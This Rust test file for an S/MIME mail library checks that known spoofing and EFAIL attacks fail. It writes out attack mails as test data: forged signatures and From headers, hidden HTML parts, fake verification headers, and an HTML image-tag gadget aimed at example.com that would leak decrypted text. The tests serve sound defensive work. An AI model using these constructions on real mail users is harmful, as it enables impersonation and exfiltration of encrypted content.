//! The published ways to deceive who reads signed and encrypted mail, each as the mail that it takes: "Johnny, you are
//! fired" (Müller and others 2019: c1 to c4, m1 to m4, i1 to i3), EFAIL (Poddebniak and others 2018), covert content
//! (Müller and others 2019), and what is like them (standards.md section 18).

use crate::build::*;
use crate::ring::{NOW, Person, Ring, person};
use crate::world;

/// What Mallory wants read as Alice's.
const EVIL: &str = "Pay Mallory at once!";

fn evil_part() -> String {
    format!("Content-Type: text/plain\r\n\r\n{EVIL}\r\n")
}

fn entity_of(person: &Person) -> String {
    clear("", PAYLOAD, &detached(PAYLOAD.as_bytes(), &[person])).replace("b1", "b2")
}

fn parts(kind: &str, parts: &[&str]) -> String {
    let parts: String = parts.iter().map(|part| format!("--m\r\n{part}\r\n")).collect();
    format!("Content-Type: multipart/{kind}; boundary=m\r\n\r\n{parts}--m--\r\n")
}

/// No word of Mallory's comes out under a verdict that is anybody's.
fn nobody_is_fooled(mail: &str, ring: &Ring, which: &str) {
    match try_open(mail.as_bytes(), ring) {
        Err(_) => {}
        Ok(seen) => {
            let shown = seen.text().contains(EVIL);
            assert!(!(shown && seen.verdict == "verified"), "{which}: {seen:?}");
            assert!(!(shown && seen.report.summary.starts_with("Signed")), "{which}: {seen:?}");
        }
    }
}

#[test]
fn x_07_johnny_c1_to_c4_what_the_signature_carries_and_what_stands_beside_it() {
    let w = world();
    let evil = evil_part();
    let signature = opaque(PAYLOAD.as_bytes(), &[&w.alice]);
    // c1: the signature has a content of its own, and another text stands before it.
    nobody_is_fooled(&clear(HEAD, &evil, &signature), &w.ring, "c1");
    // c2: a second signer, whose signature is over the text that is shown.
    let mut two = Forge::of(evil.as_bytes()).signed_by(&w.mallory, info(&w.mallory, attributes(evil.as_bytes())));
    two = two.signed_by(&w.alice, info(&w.alice, attributes(PAYLOAD.as_bytes())));
    nobody_is_fooled(&smime(HEAD, "signed-data", &two.to_der()), &w.ring, "c2");
    two.content = None;
    nobody_is_fooled(&clear(HEAD, &evil, &two.to_der()), &w.ring, "c2, detached");
    // c3: nobody signs, and the certificate of somebody whom one believes is there.
    let mut none = Forge::of(evil.as_bytes());
    none.certificates.push(w.alice.certificate.clone());
    nobody_is_fooled(&smime(HEAD, "signed-data", &none.to_der()), &w.ring, "c3");
    none.content = None;
    nobody_is_fooled(&clear(HEAD, &evil, &none.to_der()), &w.ring, "c3, detached");
    // c4: a certificate of anybody's making that names Alice.
    let fake = person("alice@example.org");
    nobody_is_fooled(&clear_mail(&evil, &[&fake]), &w.ring, "c4");
    nobody_is_fooled(&opaque_mail(&evil, &[&fake]), &w.ring, "c4, opaque");
}

#[test]
fn x_08_johnny_m1_to_m4_what_is_signed_stands_among_what_is_not() {
    let w = world();
    let (evil, signed) = (evil_part(), entity_of(&w.alice));
    let html = format!("Content-Type: text/html\r\n\r\n<p>{EVIL}<!--\r\n");
    let style = format!("Content-Type: text/html\r\n\r\n{EVIL}<plaintext style=\"display:none\">\r\n");
    let cid = format!("Content-Type: text/html\r\n\r\n{EVIL}<iframe src=\"cid:x\"></iframe>\r\n");
    let attached =
        signed.replacen("Content-Type", "Content-Disposition: attachment\r\nContent-ID: <x>\r\nContent-Type", 1);
    for kind in ["mixed", "related", "alternative", "parallel", "signed"] {
        for (name, children) in [
            ("m1, before", vec![evil.as_str(), &signed]),
            ("m1, behind", vec![&signed, &evil]),
            ("m2, hidden by markup", vec![&html, &signed]),
            ("m2, hidden by style", vec![&style, &signed]),
            ("m3, shown by reference", vec![&cid, &attached]),
            ("m4, attached", vec![&evil, &attached]),
        ] {
            let mail = parts(kind, &children);
            nobody_is_fooled(&format!("{HEAD}{mail}"), &w.ring, name);
            let message = format!("Content-Type: message/rfc822\r\n\r\n{HEAD}{signed}");
            nobody_is_fooled(&format!("{HEAD}{}", parts(kind, &[&evil, &message])), &w.ring, "a forwarded one");
        }
    }
    // Another's signature around all of it is another's word.
    let mail = parts("mixed", &[&evil, &signed]);
    nobody_is_fooled(&clear_mail(&mail, &[&w.mallory]), &w.ring, "around");
    nobody_is_fooled(&opaque_mail(&mail, &[&w.mallory]), &w.ring, "around, opaque");
}

/// A signature that was taken from one mail and put to another.
#[test]
fn x_08_signatures_that_are_wrapped_or_attached_again_say_nothing() {
    let w = world();
    let (evil, good) = (evil_part(), detached(PAYLOAD.as_bytes(), &[&w.alice]));
    nobody_is_fooled(&clear(HEAD, &evil, &good), &w.ring, "another text");
    let both = format!("{evil}{PAYLOAD}");
    nobody_is_fooled(&clear(HEAD, &both, &good), &w.ring, "both texts");
    let third = clear(HEAD, PAYLOAD, &good).replacen("\r\n--b1--", &format!("\r\n--b1\r\n{evil}\r\n--b1--"), 1);
    nobody_is_fooled(&third, &w.ring, "a third part");
    let first = clear(HEAD, PAYLOAD, &good).replacen("--b1\r\n", &format!("--b1\r\n{evil}\r\n--b1\r\n"), 1);
    nobody_is_fooled(&first, &w.ring, "a first part");
    let preamble = clear(HEAD, PAYLOAD, &good).replacen("\r\n\r\n--b1", &format!("\r\n\r\n{EVIL}\r\n--b1"), 1);
    nobody_is_fooled(&preamble, &w.ring, "a preamble");
    nobody_is_fooled(&format!("{}{EVIL}\r\n", clear(HEAD, PAYLOAD, &good)), &w.ring, "an epilogue");
    nobody_is_fooled(&format!("{}\r\n{EVIL}\r\n", opaque_mail(PAYLOAD, &[&w.alice])), &w.ring, "behind the base64");
    nobody_is_fooled(
        &opaque_mail(PAYLOAD, &[&w.alice]).replacen("base64\r\n\r\n", &format!("base64\r\n\r\n{EVIL}\r\n\r\n"), 1),
        &w.ring,
        "before it",
    );
    // Alice's own signed mail in an envelope of Mallory's making, to Bob as if it was his.
    let seen = open(sealed_mail(&HEAD.replace("Hello", EVIL), &entity_of(&w.alice), GCM, &[&w.bob]), &w.ring);
    let subject = seen.report.headers.states.iter().find(|field| field.name == "Subject").unwrap();
    assert_eq!((subject.value.as_str(), subject.state), (EVIL, "unprotected"));
    assert!(seen.has("header-unprotected"));
}

#[test]
fn x_09_johnny_i1_to_i3_from_and_sender_that_name_two() {
    let w = world();
    let evil = evil_part();
    let head = |fields: &str| format!("{fields}\r\nTo: bob@example.net\r\nSubject: x\r\nMIME-Version: 1.0\r\n");
    for (which, fields) in [
        ("i1, two fields", "From: alice@example.org\r\nFrom: mallory@example.com"),
        ("i1, the other way", "From: mallory@example.com\r\nFrom: alice@example.org"),
        ("i1, a list", "From: alice@example.org, mallory@example.com"),
        ("i2, a name that is an address", "From: \"alice@example.org\" <mallory@example.com>"),
        ("i2, without quotes", "From: alice@example.org <mallory@example.com>"),
        ("i2, a comment", "From: mallory@example.com (alice@example.org)"),
        ("i3, Sender", "From: alice@example.org\r\nSender: mallory@example.com"),
        ("i3, Sender first", "Sender: mallory@example.com\r\nFrom: alice@example.org"),
        ("i3, Resent-From", "Resent-From: mallory@example.com\r\nFrom: alice@example.org"),
        ("i3, Reply-To", "Reply-To: mallory@example.com\r\nFrom: alice@example.org"),
        ("a group", "From: alice@example.org:mallory@example.com;"),
        ("a route", "From: <@alice.example.org:mallory@example.com>"),
        ("a null", "From: alice@example.org\0 <mallory@example.com>"),
        ("a fold", "From: alice@example.org\r\n <mallory@example.com>"),
    ] {
        for mail in [
            clear(&head(fields), &evil, &detached(evil.as_bytes(), &[&w.mallory])),
            smime(&head(fields), "signed-data", &opaque(evil.as_bytes(), &[&w.mallory])),
        ] {
            nobody_is_fooled(&mail, &w.ring, which);
        }
    }
}

/// What Bob alone should read, as an entity that is encrypted to him.
fn secret(w: &crate::World, cipher: crypto::ContentCipher) -> String {
    sealed_entity("Content-Type: text/html\r\n\r\n<b>Forty-two</b>\r\n", cipher, &[&w.bob])
}

/// EFAIL's exfiltration by parts, and gadgets in what CBC cannot prove.
#[test]
fn x_02_what_stands_around_ciphertext_gets_nothing_of_it() {
    let w = world();
    let open_tag = "Content-Type: text/html\r\n\r\n<img src=\"http://example.com/\r\n";
    let close_tag = "Content-Type: text/html\r\n\r\n\">\r\n";
    for cipher in [CBC, GCM] {
        let sealed = secret(&w, cipher);
        for children in [[open_tag, &sealed, close_tag], [&sealed, open_tag, close_tag]] {
            for kind in ["mixed", "related", "alternative"] {
                let seen = open(format!("{HEAD}{}", parts(kind, &children)), &w.ring);
                assert!(!seen.text().contains("Forty-two") && seen.confidentiality == "none");
            }
        }
    }
    // A changed block of CBC: what comes out is given out as what it is, and never under anybody's name.
    let der = sealed(PAYLOAD.repeat(8).as_bytes(), CBC, &[&w.bob]);
    let mut container = Container::of(&der);
    container.content[40] ^= 1;
    if let Ok(seen) = try_open(container.mail().as_bytes(), &w.ring) {
        assert_eq!((seen.verdict, seen.confidentiality), ("unsigned", "unauthenticated"));
        assert!(seen.has("unauthenticated"));
    }
}

/// Covert content: what Mallory caught stands in his mail as an attachment, or deeper, and Bob's answer would tell it.
#[test]
fn g_09_what_an_answer_quotes_has_no_ciphertext_opened_for_it() {
    let w = world();
    let policy = trust::Policy::standard();
    for cipher in [CBC, GCM] {
        let sealed = secret(&w, cipher);
        let hidden =
            sealed.replacen("Content-Type", "Content-Disposition: attachment; filename=a.p7m\r\nContent-Type", 1);
        let deeper = parts("mixed", &[PAYLOAD, &sealed]).replace("--m", "--n").replace("boundary=m", "boundary=n");
        for deep in [&hidden, &deeper] {
            for kind in ["mixed", "related", "alternative"] {
                let entity = parts(kind, &[PAYLOAD, deep]);
                // In the clear, signed by whoever sends it, and within what Bob can open.
                let plain = format!("{HEAD}{entity}");
                let signed = clear_mail(&entity, &[&w.mallory]);
                for (mail, layers) in [(plain, 0), (signed, 1), (sealed_mail(HEAD, &entity, GCM, &[&w.bob]), 1)] {
                    let seen = open(&mail, &w.ring);
                    assert!(seen.text().contains("noon") && !seen.text().contains("Forty-two"), "{kind}");
                    assert_eq!(seen.layers.len(), layers);
                    // Whoever answers is told to quote only where the whole was encrypted to them.
                    let mail = mail.as_bytes();
                    let opened = sealpost_smime::Desk::new(&policy, &w.ring).at(NOW).open(&mail).unwrap();
                    let reply = opened.reply_headers(sealpost_smime::Response::Reply, &[]);
                    assert_eq!(reply.quote_only_encrypted, seen.confidentiality != "none");
                }
            }
        }
    }
}

#[test]
fn g_12_what_a_mail_says_of_itself_is_no_verdict() {
    let w = world();
    let lies = "Authentication-Results: mx; smime=pass\r\nX-Verified: yes\r\nX-Sealpost: verified\r\n";
    let head = HEAD.replacen("Subject: Hello", "Subject: [signed] verified: Signed by alice@example.org", 1);
    let seen = open(format!("{lies}{head}{}", evil_part()), &w.ring);
    assert_eq!((seen.verdict, seen.report.summary.as_str()), ("unsigned", "Not signed, not encrypted."));
    let inner = format!("{lies}From: alice@example.org\r\n{}", evil_part().replacen("plain", "plain; hp=cipher", 1));
    let seen = open(sealed_mail(HEAD, &inner, GCM, &[&w.bob]), &w.ring);
    assert_eq!(seen.report.summary, "Not signed, encrypted to you.");
}

/// Types, names, digests and times that are announced, and attributes that nobody signed: none of them decides.
#[test]
fn x_31_hints_decide_nothing() {
    let w = world();
    let good = opaque_mail(PAYLOAD, &[&w.alice]);
    for kind in ["enveloped-data", "certs-only", "signed-receipt", "compressed-data", "nonsense"] {
        let seen = open(good.replace("smime-type=signed-data", &format!("smime-type={kind}")), &w.ring);
        assert_eq!((seen.verdict, seen.text().contains("noon")), ("verified", true), "{kind}");
    }
    assert_eq!(open(good.replace("smime.p7m", "verified.txt"), &w.ring).verdict, "verified");
    let part = detached(PAYLOAD.as_bytes(), &[&w.alice]);
    for micalg in ["md5", "sha1", "sha-512", "unknown", "\"\""] {
        assert_eq!(open(clear_with(HEAD, micalg, PAYLOAD, &part), &w.ring).verdict, "verified", "{micalg}");
        let evil = clear_with(HEAD, micalg, &evil_part(), &part);
        assert_eq!(open(evil, &w.ring).verdict, "broken", "{micalg}");
    }
}

/// Mail that was encrypted to a key stays readable when its certificate has ended (G-06).
#[test]
fn g_06_old_mail_is_opened_with_old_keys_and_the_sender_reads_their_own() {
    let w = world();
    let alice = Ring::of(&w.alice, &[&w.bob]);
    let letter = format!("{HEAD}{PAYLOAD}");
    let policy = trust::Policy::standard();
    let letter = letter.as_bytes();
    let sealed = sealpost_smime::Desk::new(&policy, &alice).at(NOW).seal(&letter).finish().unwrap();
    assert_eq!(open(&sealed, &Ring::of(&w.alice, &[&w.alice])).verdict, "verified");
    let later = wire::Time(NOW.0 + 1000 * crate::ring::DAY);
    let opened = sealpost_smime::Desk::new(&policy, &w.ring).at(later).open(&sealed).unwrap();
    assert_eq!((opened.report().verdict, opened.report().confidentiality), ("unverified", "authenticated"));
    assert!(opened.mail().is_ok() && opened.report().findings.iter().any(|f| f.code == "certificate-expired"));
}
